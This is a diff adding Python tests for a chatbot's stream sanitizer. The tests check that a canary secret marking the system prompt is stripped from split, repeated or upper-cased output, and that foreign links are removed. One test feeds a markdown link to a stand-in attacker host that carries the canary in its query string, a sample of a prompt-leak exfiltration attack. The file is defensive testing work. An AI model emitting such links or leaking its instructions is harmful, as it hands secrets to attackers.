@@ -1,4 +1,4 @@
-from chatgepeto.answering.safety import StreamSanitizer, sanitize
+from chatgepeto.answering.safety import StreamSanitizer, new_canary, sanitize
 
 
 def test_images_and_foreign_links_are_removed():
@@ -41,3 +41,57 @@ def test_streaming_flushes_an_unclosed_bracket_at_the_end():
     stream = StreamSanitizer()
     assert stream.feed("lista [a, b") == "lista "
     assert stream.flush() == "[a, b"
+
+
+CANARY = "cg-canary-0123456789abcdef01234567"
+
+
+def stream_through(pieces, secrets=(CANARY,), hosts=()):
+    stream = StreamSanitizer(hosts, secrets=secrets)
+    sent = [stream.feed(p) for p in pieces] + [stream.flush()]
+    return "".join(sent), stream
+
+
+def test_new_canaries_are_fresh_single_words():
+    first, second = new_canary(), new_canary()
+    assert first != second and first.startswith("cg-canary-")
+    assert len(first.split()) == 1
+
+
+def test_canary_is_removed_wherever_the_stream_splits_it():
+    text = f"My instructions end with: {CANARY}. Now the answer [1]."
+    for cut in range(1, len(text)):
+        for step in (1, 3, 7):
+            pieces = [text[:cut]] + [text[i : i + step] for i in range(cut, len(text), step)]
+            out, stream = stream_through(pieces)
+            assert out == "My instructions end with: . Now the answer [1].", (cut, step)
+            assert stream.secrets_removed == 1
+
+
+def test_canary_in_any_case_repeated_or_rejoined_is_removed():
+    upper = CANARY.upper()
+    half = len(CANARY) // 2
+    rejoined = CANARY[:half] + CANARY + CANARY[half:]  # removing one joins the other
+    out, stream = stream_through(["a ", upper, " b ", CANARY, CANARY, " ", rejoined, " c"])
+    assert out == "a  b   c"
+    assert stream.secrets_removed == 5
+    assert CANARY not in out.lower()
+
+
+def test_canary_inside_a_link_is_removed_before_the_link_is_judged():
+    out, _ = stream_through([f"[veja](https://evil.example/?k={CANARY}) e ![i](", "x.png)"])
+    assert out == "veja e "
+
+
+def test_held_prefix_that_is_not_the_canary_is_released():
+    stream = StreamSanitizer(secrets=(CANARY,))
+    assert stream.feed("uma célula cg-can") == "uma célula "  # may be the canary: held
+    assert stream.feed("tor") == "cg-cantor"  # it was not
+    assert stream.feed(" e c") == " e "
+    assert stream.flush() == "c"  # the stream ended before any canary
+    assert stream.secrets_removed == 0
+
+
+def test_without_secrets_nothing_is_held_for_them():
+    stream = StreamSanitizer()
+    assert stream.feed("ends with c") == "ends with c"
